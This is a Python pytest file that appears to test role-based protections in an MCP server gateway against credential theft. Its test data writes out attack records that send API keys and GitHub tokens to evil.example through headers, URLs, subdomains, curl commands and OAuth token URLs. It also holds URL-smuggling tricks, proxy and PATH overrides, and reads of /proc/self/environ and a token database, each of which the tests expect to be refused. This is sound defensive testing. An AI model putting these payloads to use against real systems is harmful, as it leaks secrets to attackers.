"""An attacker with each role who wants a credential of the machine, over the real API."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from tests.flow.up_process import Json, Up, serving

pytestmark = pytest.mark.requirement("security:pairs")

ADMIN = "/admin/api/mcp"
EVIL = "https://evil.example/mcp"
GOOD = "https://good.example/mcp"
KEY = "sk-of-the-machine-0123456789"  # pragma: allowlist secret


class Site:
    """A process that serves, and somebody of each role at it."""

    def __init__(self, up: Up) -> None:
        self.up = up
        self.tokens: dict[str, str] = {"admin": up.admin}

    async def enter(self, *roles: str) -> None:
        for role in roles:
            body = {"name": role, "role": role} | ({"task_id": "t"} if role == "client" else {})
            status, made = await self.up.ask(
                "POST", "/admin/api/tokens", token=self.up.admin, body=body
            )
            assert status == 201, made
            self.tokens[role] = made["token"]

    async def ask(self, role: str, method: str, path: str, body: Any = None) -> tuple[int, Json]:
        return await self.up.ask(method, ADMIN + path, token=self.tokens[role], body=body)

    async def must(self, role: str, method: str, path: str, body: Any = None) -> Json:
        status, answer = await self.ask(role, method, path, body)
        assert status in (200, 201), answer
        return answer

    async def refused(self, method: str, path: str, body: Any, *named: str) -> Json:
        """Have the operator refused with 403, and the pair named."""
        status, answer = await self.ask("operator", method, path, body)
        assert (status, answer["error"]["code"]) == (403, "pair_not_accepted"), answer
        for word in named:
            assert word in answer["error"]["message"]
        assert answer["error"]["details"]["pairs"]
        return answer


@pytest.fixture(scope="module")
async def up(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    folder = tmp_path_factory.mktemp("machine")
    async with serving(folder / "data", "--empty", OPENAI_API_KEY=KEY, GITHUB_TOKEN=KEY) as up:
        site = Site(up)
        await site.enter("operator", "approver", "viewer", "node", "client")
        yield site


def remote(url: str = EVIL, **http: Any) -> Json:
    return {"transport": "http", "http": {"url": url, **http}, "allowed_tools": ["*"]}


def local(*line: str, **stdio: Any) -> Json:
    command = {"command": line[0], "args": list(line[1:]), **stdio}
    return {"transport": "stdio", "stdio": command, "allowed_tools": ["*"]}


REFERENCES = [
    "${ENV:OPENAI_API_KEY}",
    "${OPENAI_API_KEY:-x}",
    "secret://openai",
    "file:///etc/hosts",
]


def attacks(data: Path) -> list[tuple[Json, str]]:
    """Return records that take a credential to the attacker, and the reference in each."""
    setup = f"file://{data}/setup-token"
    found = [
        (remote(headers={"X": reference}), reference.replace("OPENAI_API_KEY:-x", "OPENAI_API_KEY"))
        for reference in (*REFERENCES, setup)
    ]
    found += [
        (remote(auth_ref="openai"), "secret://openai"),
        (remote(auth_ref="Bearer ${OPENAI_API_KEY}"), "OPENAI_API_KEY"),
        (remote(auth={"ref": setup}), setup),
        (remote(f"{EVIL}?k=${{ENV:MY_DATA}}"), "MY_DATA"),
        (remote("https://${ENV:MY_DATA}.evil.example/"), "MY_DATA"),
        (remote(tls={"client_certificate": "/c.pem", "client_key": "/k.pem"}), "/k.pem"),
        (local("curl", EVIL, env_from=["OPENAI_API_KEY"]), "OPENAI_API_KEY"),
        (local("curl", EVIL, env={"A": setup}), setup),
        (local("curl", EVIL, env={"A": "x ${OPENAI_API_KEY}"}), "OPENAI_API_KEY"),
        (local("curl", f"{EVIL}/${{MY_DATA}}"), "MY_DATA"),
        (local("${MY_DATA}"), "MY_DATA"),
    ]
    login = {"type": "oauth_client_credentials", "ref": "openai", "client_id": "a"}
    found.append((remote(auth=login | {"token_url": "https://evil.example/t"}), "secret://openai"))
    return found


async def test_an_operator_takes_no_credential_to_a_place_of_his_own(up: Site):
    for number, (record, reference) in enumerate(attacks(up.up.data)):
        name = f"a{number}"
        named = (
            reference.strip("${}").removeprefix("ENV:"),
            "evil" if "evil" in str(record) else "",
        )
        await up.refused("PUT", f"/servers/{name}", record, *named)
        await up.refused("POST", "/servers", {"server_id": name, **record}, *named)
        both = [{"server_id": name, **record}]
        for mode in ("upsert", "replace", "preview"):
            await up.refused("POST", "/import", {"mode": mode, "records": both}, *named)
        await up.refused("POST", "/import", {"servers": both, "tasks": [{"task_id": "x"}]}, *named)
        assert (await up.ask("admin", "GET", f"/servers/{name}"))[0] == 404
    assert (await up.ask("admin", "GET", "/tasks/x"))[0] == 404


async def test_an_operator_takes_no_key_to_a_backend_of_his_own(up: Site):
    for fields in (
        {"key_ref": "${ENV:OPENAI_API_KEY}"},
        {"key_ref": "openai"},
        {"headers": {"X": f"file://{up.up.data}/setup-token"}},
    ):
        backend = {"base_url": "https://evil.example/v1", **fields}
        await up.refused("PUT", "/backends/b", backend, "https://evil.example")
        await up.refused("POST", "/import", {"backends": [{"name": "b", **backend}]})
    body = {"mcpServers": {"gh": {"command": "npx", "args": ["evil"], "env": {"T": "${env:X}"}}}}
    await up.refused("POST", "/servers/import", body, "npx evil")


async def test_a_clients_file_takes_no_credential_along(up: Site):
    body = {"mcpServers": {"far": {"url": EVIL, "headers": {"X": "${GITHUB_TOKEN}"}}}}
    await up.refused("POST", "/import", body, "GITHUB_TOKEN", "https://evil.example")


MOVES: list[tuple[Json, Json]] = [
    ({"http": {"url": EVIL}}, remote(EVIL, auth_ref="gh")),
    ({"http": {"url": "http://good.example/mcp"}}, remote("http://good.example", auth_ref="gh")),
    (
        {"http": {"url": "https://good.example:8443/"}},
        remote("https://good.example:8443", auth_ref="gh"),
    ),
    (
        {"http": {"url": "https://good.example@evil.example/${HOME}"}},
        remote("https://good.example@evil.example/${HOME}", auth_ref="gh"),
    ),
    (
        {"http": {"url": "https://good.example${X:-.evil.example}/"}},
        remote("https://good.example${X:-.evil.example}/", auth_ref="gh"),
    ),
    ({"http": {"auth_ref": "other"}}, remote(GOOD, auth_ref="other")),
    (
        {"http": {"headers": {"X": "secret://other"}}},
        remote(GOOD, auth_ref="gh", headers={"X": "secret://other"}),
    ),
]


async def test_an_operator_moves_no_credential_that_an_administrator_gave(up: Site):
    await up.must("admin", "PUT", "/servers/good", remote(GOOD, auth_ref="gh"))
    for patch, whole in MOVES:
        await up.refused("PATCH", "/servers/good", patch)
        await up.refused("PUT", "/servers/good", whole)
        await up.refused("PUT", "/servers/renamed", whole)
    stored = await up.must("operator", "GET", "/servers/good")
    assert stored["http"]["url"] == GOOD


async def test_an_operator_starts_no_other_program_with_a_credential(up: Site):
    gh = local("uvx", "mcp-gh", env_from=["GITHUB_TOKEN"], env={"LOG": "warn"})
    await up.must("admin", "PUT", "/servers/gh", gh)
    for stdio in (
        {"command": "sh", "args": ["-c", "env"]},
        {"args": ["mcp-gh", "--api", EVIL]},
        {"cwd": "/tmp"},
        {"env": {"HTTPS_PROXY": EVIL}},
        {"env": {"GITHUB_HOST": "evil.example"}},
        {"env": {"PYTHONPATH": "/tmp"}},
        {"env": {"PATH": "/tmp"}},
        {"env": {"OTHER": "${ENV:OPENAI_API_KEY}"}},
        {"env_from": ["OPENAI_API_KEY"]},
    ):
        await up.refused("PATCH", "/servers/gh", {"stdio": stdio})
    switched = {"transport": "http", "http": {"url": EVIL, "auth_ref": "${GITHUB_TOKEN}"}}
    await up.refused("PATCH", "/servers/gh", switched)


async def test_what_an_administrator_wrote_an_operator_may_use_and_tend(up: Site):
    await up.must("admin", "PUT", "/servers/fine", remote(GOOD, auth_ref="gh2"))
    await up.must("operator", "PATCH", "/servers/fine", {"allowed_tools": ["read_*"]})
    await up.must("operator", "PATCH", "/servers/fine", {"enabled": False})
    await up.must("operator", "PATCH", "/servers/fine", {"http": {"url": f"{GOOD}/v2"}})
    await up.must("operator", "PATCH", "/servers/fine", {"http": {"headers": {"X-Team": "a"}}})
    same = remote("https://GOOD.example:443/other", auth_ref="secret://gh2")
    await up.must("operator", "PUT", "/servers/fine-too", same)
    await up.must("operator", "PUT", "/servers/own", remote(EVIL, headers={"X": "his own"}))
    await up.must("operator", "PUT", "/servers/own-too", local("uvx", "x", "${HOME}/notes"))


async def test_what_an_operator_takes_away_he_may_have_back_and_what_an_administrator_does_not(
    up: Site,
):
    made = await up.must("admin", "PUT", "/servers/back", remote(GOOD, auth_ref="gh3"))
    back = {"revision": made["revision"], "only": [{"kind": "server", "id": "back"}]}
    await up.must("operator", "DELETE", "/servers/back")
    await up.must("operator", "POST", "/rollback", back)
    await up.must("admin", "DELETE", "/servers/back")
    await up.refused("POST", "/rollback", back, "secret://gh3", "https://good.example")
    await up.refused("PUT", "/servers/back", remote(GOOD, auth_ref="gh3"))
    await up.must("admin", "POST", "/rollback", back)
    await up.must("operator", "PATCH", "/servers/back", {"enabled": False})


async def test_an_administrator_lets_in_what_an_operator_proposed(up: Site):
    wanted = remote("https://new.example/mcp", auth_ref="new")
    answer = await up.refused("PUT", "/servers/wanted", wanted, "bascule servers accept wanted")
    assert answer["error"]["details"]["pairs"] == [
        {
            "kind": "server",
            "id": "wanted",
            "reference": "secret://new",
            "target": "https://new.example",
        }
    ]
    for role in ("operator", "viewer", "approver", "node", "client"):
        assert (await up.ask(role, "POST", "/servers/wanted/accept"))[0] == 403
        assert (await up.ask(role, "GET", "/proposals"))[0] == 403
    listed = (await up.must("admin", "GET", "/proposals"))["proposals"]
    [found] = [one for one in listed if one["id"] == "wanted"]
    assert found["actor"] == "operator"
    assert found["pairs"] == [{"reference": "secret://new", "target": "https://new.example"}]
    other = await up.ask("admin", "POST", "/servers/wanted/accept?proposal=0123456789abcdef")
    assert other[0] == 404
    path = f"/servers/wanted/accept?proposal={found['proposal']}"
    accepted = await up.must("admin", "POST", path)
    assert accepted["server"]["http"]["auth_ref"] == "new"
    assert (await up.ask("admin", "POST", "/servers/wanted/accept"))[0] == 404
    await up.must("operator", "PUT", "/servers/wanted", wanted | {"enabled": False})
    await up.must("operator", "PUT", "/servers/wanted-too", wanted)


async def test_a_proposal_that_a_later_write_overtook_is_not_let_in(up: Site):
    await up.must("admin", "PUT", "/servers/late", remote(GOOD))
    await up.refused("PATCH", "/servers/late", {"http": {"auth_ref": "late"}})
    await up.must("admin", "PATCH", "/servers/late", {"enabled": False})
    assert (await up.ask("admin", "POST", "/servers/late/accept"))[0] == 404


@pytest.mark.parametrize("role", ["viewer", "approver", "node", "client"])
async def test_nobody_else_writes_at_all(up: Site, role: str):
    record = remote(headers={"X": "${ENV:OPENAI_API_KEY}"})
    asked = [
        ("PUT", "/servers/x", record),
        ("POST", "/servers", {"server_id": "x", **record}),
        ("PATCH", "/servers/good", {"http": {"url": EVIL}}),
        ("POST", "/import", [{"server_id": "x", **record}]),
        ("POST", "/rollback", {"revision": 1}),
        ("PUT", "/backends/b", {"base_url": EVIL, "key_ref": "openai"}),
        ("PUT", "/profiles/p", {"tool_denylist": ["x"]}),
        ("POST", "/servers/good/adopt", None),
    ]
    for method, path, body in asked:
        status, answer = await up.ask(role, method, path, body)
        assert (status, answer["error"]["code"]) == (403, "forbidden"), (method, path)


@pytest.mark.requirement("security:own-files", "security:own-variables")
async def test_not_even_an_administrators_record_reads_what_is_bascules_own(up: Site):
    data = up.up.data
    for number, text in enumerate(
        [
            f"file://{data}/setup-token",
            f"file:///proc/self/root{data}/tokens.db",
            "file:///proc/self/environ",
            "${ENV:BASCULE_DATA_DIR:-x}",
        ]
    ):
        name = f"own{number}"
        await up.must("admin", "PUT", f"/servers/{name}", local("cat", env={"X": text}))
        report = await up.must("operator", "POST", f"/servers/{name}/test")
        assert report["ok"] is False
        assert "Bascule's own" in report["error"]
        await up.must("admin", "DELETE", f"/servers/{name}")


@pytest.mark.requirement("references:visible-credentials")
@pytest.mark.parametrize("role", ["admin", "operator"])
async def test_a_credential_in_the_process_list_is_refused_for_everybody(up: Site, role: str):
    await up.must("operator", "PUT", "/servers/own", remote(EVIL, headers={"X": "his own"}))
    for record in (
        local("gh", "--token", "${ENV:GITHUB_TOKEN}"),
        local("gh", "--token=${GITHUB_TOKEN:-x}"),
        local("run-${API_KEY}"),
        remote(f"{EVIL}?k=${{OPENAI_API_KEY}}"),
    ):
        for method, path, body in (
            ("PUT", "/servers/seen", record),
            ("POST", "/servers", {"server_id": "seen", **record}),
            ("POST", "/import", [{"server_id": "seen", **record}]),
            ("PATCH", "/servers/own", record),
        ):
            status, answer = await up.ask(role, method, path, body)
            assert (status, answer["error"]["code"]) == (422, "invalid_record"), answer
            assert "looks like a credential" in answer["error"]["message"]
